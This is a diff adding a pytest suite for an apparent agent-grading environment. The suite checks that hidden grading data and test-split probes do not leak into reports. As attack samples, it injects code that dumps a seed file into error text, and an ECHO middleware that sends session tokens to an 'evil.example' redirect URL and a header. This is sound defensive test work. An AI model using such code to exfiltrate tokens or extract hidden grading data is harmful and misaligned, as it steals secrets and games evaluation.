@@ -1,0 +1,135 @@
+"""Attacks on what grading hides: one test per attack class, named after the attack.
+
+Nothing produced under a grading's shadow data (fresh users, records and tokens, see
+``envcore/verifier/shadow.py``) may reach an observation, an error text or a log: not a load error
+that prints the shadow's data, not a response body that echoes it, not a header or a redirect that
+carries it. And the hidden suite of a test-split scenario (its requests, users, tokens) is shown in
+words only, wherever a report is stored or shown.
+"""
+
+from __future__ import annotations
+
+import json
+import textwrap
+
+import pytest
+
+from envcore.patching import apply_patch
+from envcore.sandbox import Sandbox, SandboxLimits, supported_platform
+from envcore.scenario.probes import ProbeKind
+from envcore.verifier import grading_data, verify
+from envcore.verifier.disclosure import disclose, disclosure_for
+from envcore.verifier.verify import SHADOW_LOAD_ERROR
+
+pytestmark = pytest.mark.skipif(supported_platform() is not None, reason="the sandbox is Linux only")
+
+LIMITS = SandboxLimits(request_timeout_s=2, load_timeout_s=4, verify_timeout_s=20, cpu_s=5, memory_mb=160)
+
+
+@pytest.fixture(scope="module")
+def sb():
+    box = Sandbox(limits=LIMITS, spares=1).start()
+    yield box
+    box.close()
+
+
+@pytest.fixture(scope="module")
+def target(bundle_for):
+    """A generated single-file scenario (``app.py`` reads ``SEED_FILE`` at import) with a hidden probe."""
+    for seed in range(60):
+        bundle = bundle_for(seed)
+        if bundle.entrypoint == "app:app" and "SEED_FILE" in bundle.files["app.py"] and \
+                any(not p.visible for p in bundle.probes) and bundle.bug_class in ("idor_read", "idor_write"):
+            return bundle
+    pytest.skip("no single-file scenario among the first 60 seeds")  # pragma: no cover
+
+
+def at_import(files: dict[str, str], code: str) -> dict[str, str]:
+    return {**files, "app.py": files["app.py"] + "\n\n" + textwrap.dedent(code).strip() + "\n"}
+
+
+def shadow_values(data) -> set[str]:
+    assert data.shadow, "the scenario must be graded on shadow data"
+    return set(data.substitution.mapping.values())
+
+
+def leaked(report, data) -> list[str]:
+    text = report.model_dump_json()
+    return sorted(v for v in shadow_values(data) if v in text)
+
+
+def test_a_load_error_under_shadow_data_is_reported_from_the_data_the_agent_sees(sb, target):
+    files = at_import(target.files, "raise RuntimeError(SEED_FILE.read_text()[:3000])")
+    data = grading_data(target)
+    report = verify(target, files, sandbox=sb, shadow=data)
+    assert report.outcome == "load_error" and report.reward == 0.0
+    assert leaked(report, data) == []
+    assert target.users[0].username in report.load_error  # the error the agent can reproduce, on its own data
+
+
+def test_a_load_error_only_under_shadow_data_is_reported_without_its_text(sb, target):
+    known = target.users[0].username
+    files = at_import(target.files, f"""
+        if {known!r} not in SEED_FILE.read_text():
+            raise RuntimeError("grading data: " + SEED_FILE.read_text()[:3000])
+    """)
+    data = grading_data(target)
+    report = verify(target, files, sandbox=sb, shadow=data)
+    assert report.outcome == "load_error"
+    assert report.load_error == SHADOW_LOAD_ERROR and leaked(report, data) == []
+
+
+ECHO = """
+@app.middleware("http")
+async def _echo_everything(request, call_next):
+    from starlette.responses import JSONResponse
+    seed = SEED_FILE.read_text()
+    tokens = [s["token"] for s in __import__("json").loads(seed)["sessions"]]
+    return JSONResponse({"seed": seed, "username": seed, "role": seed}, status_code=200,
+                        headers={"location": "https://evil.example/" + ",".join(tokens), "x-seed": tokens[0]})
+"""
+"""Answers every request with the whole data file, in the body, in a redirect and in a header."""
+
+
+def test_nothing_the_app_says_under_shadow_data_reaches_the_report(sb, target):
+    for files in (at_import(target.files, ECHO), at_import(apply_patch(target.files, target.reference_fix), ECHO)):
+        data = grading_data(target)
+        report = verify(target, files, sandbox=sb, shadow=data)
+        assert report.outcome == "graded"
+        assert leaked(report, data) == []
+        assert all(got.isdigit() or got == "no response" for probe in report.probes for got in probe.got), \
+            [probe.got for probe in report.probes]
+
+
+def test_a_shadow_report_names_the_users_the_agent_knows(sb, target):
+    data = grading_data(target)
+    report = verify(target, target.files, sandbox=sb, shadow=data)
+    expected = " ".join(" ".join(p.expected) for p in report.probes)
+    actors = {step.actor for probe in target.probes for step in probe.steps if step.actor}
+    assert actors and all(actor in expected for actor in actors)
+    assert leaked(report, data) == []
+
+
+def test_the_hidden_suite_of_a_test_split_scenario_is_shown_in_words_only(sb, target):
+    report = verify(target, target.files, sandbox=sb)
+    shown = disclose(report, target, disclosure_for("test"))
+    hidden = [p for p in target.probes if not p.visible]
+    text = shown.model_dump_json()
+    for probe in hidden:
+        for step in probe.steps:
+            assert step.path not in text or any(step.path == v.steps[0].path for v in target.visible_probes), step.path
+    tokens = [u.token for u in target.users]
+    assert not any(token in text for token in tokens)
+    by_id = {p.probe_id: p for p in shown.probes}
+    for probe in hidden:
+        result = by_id[probe.id]
+        assert result.expected == (probe.title,)
+        assert result.passed or (len(result.failures) == 1 and "/" not in result.failures[0])
+    failed_security = [by_id[p.id] for p in hidden if p.kind == ProbeKind.SECURITY and not by_id[p.id].passed]
+    assert failed_security and failed_security[0].failures[0].startswith("the exploit was not refused")
+    assert (shown.security, shown.regression, shown.trap, shown.reward) == \
+        (report.security, report.regression, report.trap, report.reward)
+    for split in ("train", "val"):
+        assert disclose(report, target, disclosure_for(split)) == report
+    assert disclosure_for(None) == "words"
+    assert json.loads(text)["resolution"] == report.resolution.value
